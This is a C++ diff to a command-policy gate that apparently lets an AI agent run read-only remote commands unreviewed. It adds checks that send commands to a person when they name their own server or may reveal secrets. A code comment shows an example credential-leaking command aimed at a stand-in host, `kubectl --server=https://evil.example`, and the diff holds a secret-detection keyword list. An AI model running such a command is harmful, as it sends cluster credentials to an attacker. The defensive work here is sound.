@@ -2,6 +2,9 @@
 
 #include <algorithm>
 #include <array>
+#include <string>
+
+#include "policy/internal/command_words.h"
 
 namespace callgate {
 namespace {
@@ -61,7 +64,39 @@ bool asks_only_registries(const EvaluatedCommand& command) {
   });
 }
 
+namespace {
+
+bool has_word_with(const EvaluatedCommand& command, std::string_view piece) {
+  return std::any_of(command.argv.begin() + 1, command.argv.end(),
+                     [&](const Value& word) { return !word.text || word.text->find(piece) != std::string::npos; });
+}
+
+// `kubectl --server=https://evil.example get pods`: its credentials would go to a host that the words name.
+bool names_its_host(const EvaluatedCommand& command) {
+  for (const std::string& address : command.effects.targets(EffectKind::connect)) {
+    std::string_view host = std::string_view(address).substr(0, address.rfind(':'));
+    if (host.find('*') == std::string_view::npos && has_word_with(command, host)) return true;
+  }
+  constexpr std::array<std::string_view, 6> options{"--server", "--endpoint", "--hostname",
+                                                    "--host",   "--proxy",    "--url"};
+  return std::any_of(options.begin(), options.end(),
+                     [&](std::string_view option) { return has_word_with(command, option); }) ||
+         (is_one_of(command.name(), {"kubectl", "oc"}) && has_word_with(command, "://"));
+}
+
+// What it looks at is, or may be, a secret: a person decides whether the agent reads that.
+bool may_show_secrets(const EvaluatedCommand& command) {
+  constexpr std::array<std::string_view, 6> pieces{"secret", "token", "password", "credential", "keyvault", "private"};
+  if (is_one_of(command.name(), {"terraform", "tofu", "pulumi"}) && has_word_with(command, "output")) return true;
+  if (command.name() == "helm" && has_word_with(command, "get")) return true;
+  return std::any_of(pieces.begin(), pieces.end(),
+                     [&](std::string_view piece) { return has_word_with(command, piece); });
+}
+
+}  // namespace
+
 bool only_reads_elsewhere(const EvaluatedCommand& command) {
+  if (command.argv.empty() || names_its_host(command) || may_show_secrets(command)) return false;
   bool any = false;
   for (const Effect& effect : command.effects) {
     if (effect.kind != EffectKind::remote) continue;
